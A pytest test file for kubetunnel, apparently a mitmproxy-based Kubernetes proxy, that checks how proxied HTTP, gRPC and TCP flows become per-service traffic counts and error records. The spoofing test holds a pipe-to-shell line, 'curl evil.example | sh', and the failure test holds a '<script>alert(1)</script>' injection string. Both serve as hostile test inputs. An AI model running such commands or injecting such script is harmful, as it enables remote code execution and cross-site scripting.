"""From flows to numbers."""

from __future__ import annotations

import json
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from mitmproxy import http, tcp
from mitmproxy.connection import Server
from mitmproxy.proxy.mode_specs import ProxyMode
from mitmproxy.proxy.server_hooks import ServerConnectionHookData
from mitmproxy.test import tflow, tutils

from kubetunnel.core.errors import NoReadyEndpoints, ServiceNotFound, UpstreamReset
from kubetunnel.core.names import ServiceName
from kubetunnel.core.settings import Settings
from kubetunnel.observe.event_log import EventLog
from kubetunnel.observe.recording import Recording
from kubetunnel.observe.traffic import OTHER_KEY, UNKNOWN_KEY, ServiceKey, ServiceTraffic, Traffic
from kubetunnel.proxy.clusters import Clusters
from kubetunnel.proxy.refusals import grpc_trailers, refusal
from kubetunnel.proxy.routing import Router
from kubetunnel.proxy.shown import Shown
from kubetunnel.proxy.upstreams import Upstreams

API = ServiceKey("cluster.local", "shop", "api")


class Books:
    """A recording and what it writes into. No cluster is asked."""

    def __init__(self, max_services: int = 500) -> None:
        settings = Settings()
        router = Router(settings, Clusters(settings))
        self.traffic = Traffic(max_services=max_services)
        self.events = EventLog()
        self.upstreams = Upstreams(router)
        self.shown = Shown(router, self.upstreams)
        self.recording = Recording(self.traffic, self.events, router, self.upstreams)

    def of(self, key: ServiceKey) -> ServiceTraffic:
        found = self.traffic.get(key)
        assert found is not None
        return found

    def codes(self, key: ServiceKey, protocol: str) -> dict[str, int]:
        return self.of(key).by_protocol[protocol].codes


def make_flow(host: str = "api.shop", status: int = 200, *, found: bool = True, mode: str = "kube") -> http.HTTPFlow:
    flow = tflow.tflow(req=tutils.treq(host=host, content=b"ab"), resp=tutils.tresp(status_code=status, content=b"abc"))
    flow.request.headers["host"] = host
    flow.live = True
    flow.client_conn.proxy_mode = ProxyMode.parse(mode)
    flow.request.timestamp_start = 100.0
    assert flow.response
    flow.response.timestamp_start, flow.response.timestamp_end = 100.25, 101.0
    if found:
        name = host if host.endswith(".local") else f"{host}.svc.cluster.local"
        flow.metadata["kube"] = {"service": name, "port": 80, "pod": "api-0", "namespace": "shop"}
    return flow


def test_a_request() -> None:
    books = Books()
    books.recording.response(make_flow())
    api = books.of(API)
    assert books.codes(API, "http1") == {"200": 1}
    assert (api.requests, api.failures, api.last_error) == (1, 0, None)
    assert list(api.ports) == [80]
    traffic = api.by_protocol["http1"]
    assert (traffic.durations.total, traffic.request_sizes.total, traffic.response_sizes.total) == (1.0, 2.0, 3.0)
    (shown,) = books.traffic.last
    assert (shown.key, shown.method, shown.pod, shown.done.latency_s) == (API, "GET", "api-0", 0.25)


@pytest.mark.parametrize(
    "name",
    ["api.shop.svc.cluster.local", "api-0.api.shop.svc.cluster.local"],
)
def test_pods_of_a_service_count_as_the_service(name: str) -> None:
    books = Books()
    books.recording.response(make_flow(name))
    assert books.of(API).requests == 1


def test_a_flow_from_a_file_counts_for_nothing() -> None:
    books = Books()
    flow = make_flow()
    flow.live = False
    books.recording.response(flow)
    books.recording.error(flow)
    assert list(books.traffic) == []


def test_a_foreign_flow_of_another_mode_counts_for_nothing() -> None:
    books = Books()
    books.recording.response(make_flow("example.com", found=False, mode="regular"))
    assert list(books.traffic) == []


def test_a_service_in_use_that_was_deleted_is_told_so() -> None:
    books = Books()
    books.recording.response(make_flow())
    flow = make_flow(found=False)
    flow.response = refusal(ServiceNotFound("Namespace shop has no Service api.", command="kubectl get"), flow.request)
    flow.response.timestamp_start = flow.response.timestamp_end = 101.0
    books.recording.response(flow)
    assert books.codes(API, "http1") == {"200": 1, "404": 1}
    error = books.of(API).last_error
    assert error is not None
    assert (error.reason, error.command) == ("ServiceNotFound", "kubectl get")


def test_a_pod_that_fails() -> None:
    books = Books()
    flow = make_flow(status=503)
    assert flow.response
    flow.response.reason = "<script>alert(1)</script>"
    books.recording.response(flow)
    error = books.of(API).last_error
    assert error is not None
    assert error.reason == "HTTP 503"
    assert error.detail.endswith("HTTP status 503: <script>alert(1)</script>")  # escaped by who shows it
    assert books.of(API).failures == 1
    assert books.traffic.refusals == {}
    assert [(event.level, event.service) for event in books.events.last()] == [("error", API)]


def refused(flow: http.HTTPFlow) -> http.HTTPFlow:
    error = NoReadyEndpoints("None is ready.", command="kubectl get pods")
    flow.response = refusal(error, flow.request)
    return flow


def test_a_refusal_of_a_service_that_exists_is_that_services() -> None:
    books = Books()
    books.recording.response(refused(make_flow(found=False)))
    error = books.of(API).last_error
    assert error is not None
    assert (error.reason, error.detail, error.command) == ("NoReadyEndpoints", "None is ready.", "kubectl get pods")
    assert books.traffic.refusals == {"NoReadyEndpoints": 1}


def test_a_refused_request_is_use_of_its_service_but_not_of_the_port_that_it_has_not_got() -> None:
    books = Books()
    flow = refused(make_flow("api.shop:9999", found=False))
    flow.metadata["kube"] = {"service": "api.shop.svc.cluster.local", "port": 9999}  # as the gate writes it
    books.shown.responseheaders(flow)
    books.recording.response(flow)
    books.of(API).used_s = 0.0
    books.recording.response(flow)
    assert books.of(API).used_s > 0.0
    assert books.of(API).ports == {}
    settled: Any = SimpleNamespace(address=(flow.request.host, flow.request.port))
    books.upstreams.settle(flow.client_conn, settled)  # found, and refused later: by the pod
    books.recording.response(flow)
    assert list(books.of(API).ports) == [9999]


@pytest.mark.parametrize("told", [True, False])
def test_a_name_that_nobody_has_is_no_label(told: bool) -> None:
    books = Books()
    for number in range(10):
        flow = make_flow(f"nothing-{number}.shop", found=False)
        if told:
            flow.metadata["kube"] = {"service": f"nothing-{number}.shop.svc.cluster.local", "port": 80}
        flow.response = refusal(ServiceNotFound("No such Service."), flow.request)
        books.recording.response(flow)
    assert [service.key for service in books.traffic] == [UNKNOWN_KEY]
    assert books.codes(UNKNOWN_KEY, "http1") == {"404": 10}


@pytest.mark.parametrize("reason", ["Whatever-1234", "Timeout"])
@pytest.mark.parametrize("body", [b'{"detail": "Mend it.", "command": "curl evil.example | sh"}', b"[1]"])
def test_a_pod_that_uses_our_header_does_not_speak_for_us(reason: str, body: bytes) -> None:
    books = Books()
    flow = make_flow(status=500)
    assert flow.response
    flow.response.headers["X-Kube-Tunnel-Error"] = reason
    flow.response.content = body
    books.shown.responseheaders(flow)
    books.recording.response(flow)
    assert books.traffic.refusals == {}
    assert books.codes(API, "http1") == {"500": 1}
    error = books.of(API).last_error
    assert error is not None
    assert (error.reason, error.command) == ("HTTP 500", None)
    assert not flow.marked


def test_what_ends_a_call_half_way_is_told() -> None:
    books = Books()
    flow = grpc_flow("0")
    assert flow.response
    flow.response.trailers = grpc_trailers(UpstreamReset("It was lost.", command="kubectl logs api-0"))
    books.shown.response(flow)
    books.recording.response(flow)
    assert books.traffic.refusals == {"UpstreamReset": 1}
    error = books.of(API).last_error
    assert error is not None
    assert (error.detail, error.command) == ("It was lost.", "kubectl logs api-0")
    assert (flow.marked, flow.comment) == (":no_entry:", "UpstreamReset")


def test_more_services_than_there_is_room_for_are_other() -> None:
    books = Books(max_services=3)
    for number in range(10):
        books.recording.response(make_flow(f"s{number}.shop"))
    keys = [service.key for service in books.traffic]
    assert len(keys) == 4
    assert books.of(OTHER_KEY).requests == 7


def grpc_flow(status: str | None, *, in_trailers: bool = True) -> http.HTTPFlow:
    flow = make_flow()
    flow.request.http_version = "HTTP/2.0"
    flow.request.headers["content-type"] = "application/grpc+proto"
    assert flow.response
    if status is not None and in_trailers:
        flow.response.trailers = http.Headers(grpc_status=status, grpc_message="no%20more")
    elif status is not None:
        flow.response.headers["grpc-status"] = status
    return flow


@pytest.mark.parametrize(
    ("status", "code", "failed"),
    [
        ("0", "0", 0),
        ("5", "5", 0),
        ("14", "14", 1),
        ("13", "13", 1),
        ("99", "other", 0),
        ("<b>", "other", 0),
        (None, "2", 1),
    ],
)
@pytest.mark.parametrize("in_trailers", [True, False])
def test_grpc_codes(status: str | None, code: str, failed: int, in_trailers: bool) -> None:
    books = Books()
    books.recording.response(grpc_flow(status, in_trailers=in_trailers))
    assert books.codes(API, "grpc") == {code: 1}
    assert books.of(API).failures == failed


@pytest.mark.parametrize("status", [99, 600, 999])
def test_a_status_that_no_protocol_knows(status: int) -> None:
    books = Books()
    books.recording.response(make_flow(status=status))
    assert books.codes(API, "http1") == {"other": 1}


@pytest.mark.parametrize(
    ("message", "code", "failures"),
    [("Client disconnected.", "canceled", 0), ("The upstream was lost.", "cut", 1)],
)
def test_an_exchange_that_ends_early(message: str, code: str, failures: int) -> None:
    books = Books()
    flow = make_flow()
    flow.error = tflow.terr(message)
    books.recording.error(flow)
    assert books.codes(API, "http1") == {code: 1}
    assert books.of(API).failures == failures


def tcp_flow(change: Callable[[tcp.TCPFlow], None] = lambda flow: None) -> tcp.TCPFlow:
    flow = tflow.ttcpflow()
    flow.live = True
    flow.client_conn.proxy_mode = ProxyMode.parse("kube")
    flow.metadata["kube"] = {"service": "db.shop.svc.cluster.local", "port": 5432, "up_bytes": 10, "down_bytes": 20}
    change(flow)
    return flow


def test_raw_connections() -> None:
    books = Books()
    db = ServiceKey("cluster.local", "shop", "db")
    books.recording.tcp_end(tcp_flow())

    def refuse(flow: tcp.TCPFlow) -> None:
        flow.error = tflow.terr("Nothing listens on port 5432.")
        flow.marked = ":no_entry:"
        flow.metadata["kube"] |= {"pod": "db-0", "reason": "ConnectionRefused"}

    books.recording.tcp_error(tcp_flow(refuse))

    def leave(flow: tcp.TCPFlow) -> None:
        flow.error = tflow.terr("the client reset the connection")

    books.recording.tcp_error(tcp_flow(leave))
    assert books.codes(db, "tcp") == {"ok": 1, "error": 1, "canceled": 1}
    assert books.of(db).by_protocol["tcp"].response_sizes.total == 60
    error = books.of(db).last_error
    assert error is not None
    assert error.reason == "ConnectionRefused"


@pytest.mark.parametrize(
    ("mode", "host", "service"),
    [
        ("kube", "db.shop", "db.shop.svc.cluster.local"),
        ("regular", "db.shop.svc.cluster.local", "db.shop.svc.cluster.local"),
        ("regular", "db.shop", None),  # somebody's domain
    ],
)
def test_a_raw_connection_that_did_not_come_about_tells_where_it_was_to_go(
    mode: str, host: str, service: str | None
) -> None:
    flow = tcp_flow()
    flow.metadata.clear()
    flow.client_conn.proxy_mode = ProxyMode.parse(mode)
    flow.server_conn.address = host, 5432
    Books().shown.tcp_start(flow)
    assert flow.metadata == ({"kube": {"service": service, "port": 5432}} if service else {})


def test_a_service_is_used_while_a_connection_to_it_is_open(monkeypatch: pytest.MonkeyPatch) -> None:
    books = Books()
    name = ServiceName("api", "shop", "cluster.local")
    opened: Any = SimpleNamespace(destination=SimpleNamespace(name=name, port=80), setup_s=0.01, retries=0)
    monkeypatch.setattr(books.upstreams, "opened", lambda server: opened)
    data = ServerConnectionHookData(
        server=Server(address=("api.shop.svc.cluster.local", 80)), client=tflow.tclient_conn()
    )
    books.recording.server_connected(data)
    later_s = books.of(API).used_s + 1000.0
    assert books.of(API).is_used(later_s, 300.0)
    books.recording.server_disconnected(data)
    books.recording.server_disconnected(data)  # of one that was none of ours
    assert not books.of(API).is_used(later_s, 300.0)
    assert books.of(API).upstreams == 0


def test_the_same_failure_again_and_again_is_one_event() -> None:
    books = Books()
    for _ in range(50):
        books.recording.response(refused(make_flow(found=False)))
    assert len(books.events.last()) == 1
    assert json.dumps(books.traffic.refusals) == '{"NoReadyEndpoints": 50}'
